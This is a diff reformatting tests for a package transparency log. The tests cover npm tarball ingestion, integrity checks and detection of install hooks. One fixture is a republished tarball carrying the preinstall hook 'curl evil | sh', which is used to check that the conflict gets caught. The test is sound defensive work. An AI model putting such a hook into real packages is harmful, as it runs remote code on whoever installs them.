@@ -25,7 +25,9 @@ afterEach(async () => {
 
 describe('ingestion from an upstream registry', () => {
   it('logs an unknown version on lookup, with the install code read from the tarball', async () => {
-    registry.add('@acme/native', '2.0.0', { tgz: makeTarball('@acme/native', '2.0.0', { postinstall: 'node build.js' }) });
+    registry.add('@acme/native', '2.0.0', {
+      tgz: makeTarball('@acme/native', '2.0.0', { postinstall: 'node build.js' }),
+    });
     const res = await fetch(`${server.url}/lookup/${recordKey('@acme/native', '2.0.0')}`);
     expect(res.status).toBe(200);
     const [index, ...rest] = (await res.text()).split('\n');
@@ -37,7 +39,10 @@ describe('ingestion from an upstream registry', () => {
   });
 
   it('refuses a tarball whose sha512 does not match dist.integrity', async () => {
-    registry.add('victim', '1.0.0', { tgz: makeTarball('victim', '1.0.0'), integrity: sha512Integrity(makeTarball('victim', '1.0.0', {}, 'other')) });
+    registry.add('victim', '1.0.0', {
+      tgz: makeTarball('victim', '1.0.0'),
+      integrity: sha512Integrity(makeTarball('victim', '1.0.0', {}, 'other')),
+    });
     const res = await fetch(`${server.url}/lookup/victim@1.0.0`);
     expect(res.status).toBe(502);
     expect(await res.text()).toMatch(/INTEGRITY_MISMATCH: the tarball of victim@1\.0\.0 .* has sha512-/);
@@ -47,7 +52,9 @@ describe('ingestion from an upstream registry', () => {
   it('ingests concurrent lookups of one unknown version once', async () => {
     registry.add('popular', '3.1.4', { tgz: makeTarball('popular', '3.1.4') });
     registry.delayMs = 50;
-    const bodies = await Promise.all(Array.from({ length: 20 }, () => fetch(`${server.url}/lookup/popular@3.1.4`).then((r) => r.text())));
+    const bodies = await Promise.all(
+      Array.from({ length: 20 }, () => fetch(`${server.url}/lookup/popular@3.1.4`).then((r) => r.text())),
+    );
     expect(new Set(bodies.map((b) => b.split('\n')[0]))).toEqual(new Set(['0']));
     expect(registry.hits.get('/popular')).toBe(1);
     expect(registry.hits.get('/-/tarball/popular/3.1.4.tgz')).toBe(1);
@@ -63,7 +70,9 @@ describe('ingestion from an upstream registry', () => {
       expect((await fetch(`${server.url}/lookup/only-second@1.0.0`)).status).toBe(200);
       const missing = await fetch(`${server.url}/lookup/nobody-has@1.0.0`);
       expect(missing.status).toBe(404);
-      expect(await missing.text()).toMatch(/NO_SOURCE: nobody-has@1\.0\.0 was not found on any upstream registry/);
+      expect(await missing.text()).toMatch(
+        /NO_SOURCE: nobody-has@1\.0\.0 was not found on any upstream registry/,
+      );
     } finally {
       await second.close();
     }
@@ -73,14 +82,27 @@ describe('ingestion from an upstream registry', () => {
     registry.add('left-pad', '1.3.0', { tgz: makeTarball('left-pad', '1.3.0') });
     expect((await fetch(`${server.url}/lookup/left-pad@1.3.0`)).status).toBe(200);
     // The upstream now serves different bytes (with a matching integrity) for the same version.
-    registry.add('left-pad', '1.3.0', { tgz: makeTarball('left-pad', '1.3.0', { preinstall: 'curl evil | sh' }) });
-    const summary = await ingestList({ log: server.log, upstreams: [registry.url], packages: [{ name: 'left-pad', version: '1.3.0' }], recheck: true });
+    registry.add('left-pad', '1.3.0', {
+      tgz: makeTarball('left-pad', '1.3.0', { preinstall: 'curl evil | sh' }),
+    });
+    const summary = await ingestList({
+      log: server.log,
+      upstreams: [registry.url],
+      packages: [{ name: 'left-pad', version: '1.3.0' }],
+      recheck: true,
+    });
     expect(summary.failed).toHaveLength(1);
-    expect(summary.failed[0]!.reason).toMatch(/^LOG_CONFLICT: left-pad@1\.3\.0 is already in the log \(index 0\)/);
+    expect(summary.failed[0]!.reason).toMatch(
+      /^LOG_CONFLICT: left-pad@1\.3\.0 is already in the log \(index 0\)/,
+    );
     expect(server.log.size).toBe(1);
     const ev = await fetch(`${server.url}/evidence/left-pad@1.3.0`);
     expect(ev.status).toBe(200);
-    const evidence = (await ev.json()) as { index: number; logged: string; observations: Array<{ record: string; source: string }> };
+    const evidence = (await ev.json()) as {
+      index: number;
+      logged: string;
+      observations: Array<{ record: string; source: string }>;
+    };
     expect(evidence.index).toBe(0);
     expect(parseRecord(evidence.logged).installCode.hooks).toEqual([]);
     expect(parseRecord(evidence.observations[0]!.record).installCode.hooks).toEqual(['preinstall']);
@@ -96,19 +118,41 @@ describe('ingestion from an upstream registry', () => {
     const v1 = inspectTarball(tgz).installCode.v1!;
     // A log written before install code v2: the record carries the v1 fingerprint and no rules marker.
     await server.log.append(
-      { name: 'old-native', version: '1.0.0', integrity: sha512Integrity(tgz), installCode: { fingerprint: v1, hooks: ['postinstall'], rules: 1 }, signatures: [] },
+      {
+        name: 'old-native',
+        version: '1.0.0',
+        integrity: sha512Integrity(tgz),
+        installCode: { fingerprint: v1, hooks: ['postinstall'], rules: 1 },
+        signatures: [],
+      },
       registry.url,
     );
-    const same = await ingestList({ log: server.log, upstreams: [registry.url], packages: [{ name: 'old-native', version: '1.0.0' }], recheck: true });
+    const same = await ingestList({
+      log: server.log,
+      upstreams: [registry.url],
+      packages: [{ name: 'old-native', version: '1.0.0' }],
+      recheck: true,
+    });
     expect(same).toEqual({ added: 0, existing: 1, failed: [] });
     // The same integrity with another v1 fingerprint is still a conflict.
     const tgz2 = makeTarball('old-native', '2.0.0', { postinstall: 'node build.js' });
     await server.log.append(
-      { name: 'old-native', version: '2.0.0', integrity: sha512Integrity(tgz2), installCode: { fingerprint: `sha256-${'A'.repeat(43)}=`, hooks: ['postinstall'], rules: 1 }, signatures: [] },
+      {
+        name: 'old-native',
+        version: '2.0.0',
+        integrity: sha512Integrity(tgz2),
+        installCode: { fingerprint: `sha256-${'A'.repeat(43)}=`, hooks: ['postinstall'], rules: 1 },
+        signatures: [],
+      },
       registry.url,
     );
     registry.add('old-native', '2.0.0', { tgz: tgz2 });
-    const other = await ingestList({ log: server.log, upstreams: [registry.url], packages: [{ name: 'old-native', version: '2.0.0' }], recheck: true });
+    const other = await ingestList({
+      log: server.log,
+      upstreams: [registry.url],
+      packages: [{ name: 'old-native', version: '2.0.0' }],
+      recheck: true,
+    });
     expect(other.failed.map((f) => f.reason.split(':')[0])).toEqual(['LOG_CONFLICT']);
   });
 
@@ -119,15 +163,28 @@ describe('ingestion from an upstream registry', () => {
       method: 'POST',
       body: JSON.stringify({ packages: ['a@1.0.0', 'a@1.1.0', '@s/b@2.0.0', 'ghost@1.0.0'], ingest: true }),
     });
-    const batch = (await res.json()) as { entries: unknown[]; missing: Array<{ name: string; reason: string }> };
+    const batch = (await res.json()) as {
+      entries: unknown[];
+      missing: Array<{ name: string; reason: string }>;
+    };
     expect(batch.entries).toHaveLength(3);
-    expect(batch.missing).toEqual([{ name: 'ghost', version: '1.0.0', reason: expect.stringMatching(/^NO_SOURCE: /) }]);
+    expect(batch.missing).toEqual([
+      { name: 'ghost', version: '1.0.0', reason: expect.stringMatching(/^NO_SOURCE: /) },
+    ]);
 
     const lock = join(tempDir(), 'pnpm-lock.yaml');
-    writeFileSync(lock, "lockfileVersion: '9.0'\n\npackages:\n\n  a@1.0.0:\n    resolution: {integrity: sha512-x}\n\n  '@s/b@2.0.0':\n    resolution: {integrity: sha512-y}\n\nsnapshots:\n\n  a@1.0.0: {}\n");
+    writeFileSync(
+      lock,
+      "lockfileVersion: '9.0'\n\npackages:\n\n  a@1.0.0:\n    resolution: {integrity: sha512-x}\n\n  '@s/b@2.0.0':\n    resolution: {integrity: sha512-y}\n\nsnapshots:\n\n  a@1.0.0: {}\n",
+    );
     const { ingestFromLockfile } = await import('../src/index.js');
     const progress: string[] = [];
-    const summary = await ingestFromLockfile({ log: server.log, lockfile: lock, upstreams: [registry.url], onProgress: (p) => progress.push(`${p.done}/${p.total} ${p.outcome}`) });
+    const summary = await ingestFromLockfile({
+      log: server.log,
+      lockfile: lock,
+      upstreams: [registry.url],
+      onProgress: (p) => progress.push(`${p.done}/${p.total} ${p.outcome}`),
+    });
     expect(summary).toEqual({ added: 0, existing: 2, failed: [] });
     expect(progress.sort()).toEqual(['1/2 existing', '2/2 existing']);
   });
